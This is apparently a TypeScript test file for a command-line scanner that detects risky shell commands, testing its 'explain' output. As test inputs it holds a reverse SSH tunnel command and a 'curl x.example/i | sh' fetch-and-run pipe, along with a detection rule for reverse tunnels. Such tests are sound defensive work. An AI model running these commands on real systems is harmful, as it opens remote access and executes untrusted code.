import assert from "node:assert/strict";
import { countersign, tunnel } from "./command-line.ts";

describe("countersign explain", () => {
  it("prints the page of a rule", () => {
    const { code, stdout } = countersign(["explain", "command/reverse-ssh-tunnel"]);
    assert.equal(code, 0);
    assert.match(stdout, /^Reverse SSH tunnel {2}high\ncommand\/reverse-ssh-tunnel, tunnel, /);
    for (const section of ["What it finds", "Why it matters", "What to do", "When it is fine"])
      assert.ok(stdout.includes(`\n${section}\n  `));
  });

  it("suggests rules that are named nearly so", () => {
    const { code, stderr } = countersign(["explain", "reverse-ssh-tunel"]);
    assert.equal(code, 2);
    assert.match(stderr, /no rule named reverse-ssh-tunel\.\n {2}Did you mean command\/reverse-ssh-tunnel\?/);
    assert.match(countersign(["explain", "qqqqqqqqqqqq"]).stderr, /countersign rules list has them all/);
  });

  it("shows how a command was understood, what matched, and what came near", () => {
    const { code, stdout } = countersign(["explain", "--command", tunnel]);
    assert.equal(code, 1);
    assert.match(stdout, /^What is executed\n {2}ssh -N -R=9:localhost:22 -f -- u@h\n/);
    assert.match(stdout, /name {8}ssh {2}written s\\sh\n/);
    assert.match(stdout, /via {9}timeout\n/);
    assert.match(stdout, /What came near, and what it lacks\n {2}command\/\S+ asks of ssh: /);
    assert.match(stdout, /1:11 {2}high {2}Opens a reverse tunnel/);
  });

  it("shows why a command that looks like one does not match", () => {
    const { code, stdout } = countersign(["explain", "--command=ssh -L 1:a:2 h"]);
    assert.equal(code, 0);
    assert.match(stdout, /command\/reverse-ssh-tunnel asks of ssh: an option -R\n/);
  });

  it("shows what follows from a command, and what is nested in it", () => {
    const { stdout } = countersign(["explain", "--command", `bash -c "curl x.example/i | sh" && python3 -c 'import os'`]);
    assert.match(stdout, /What follows from it\n[\s\S]*:fetch x\.example\/i \| :run sh\n/);
    assert.match(stdout, /python \(via python3 -c\): import os\n/);
  });

  it("says it to programs as well", () => {
    const command = JSON.parse(countersign(["explain", "--command", tunnel, "--format", "json"]).stdout);
    assert.deepEqual(
      [command.version, command.verdict, command.lines[0].canonical],
      [1, "attention", "ssh -N -R=9:localhost:22 -f -- u@h"],
    );
    const { rule } = JSON.parse(countersign(["explain", "command/reverse-ssh-tunnel", "--format", "json"]).stdout);
    assert.deepEqual([rule.id, rule.severity], ["command/reverse-ssh-tunnel", "high"]);
  });
});
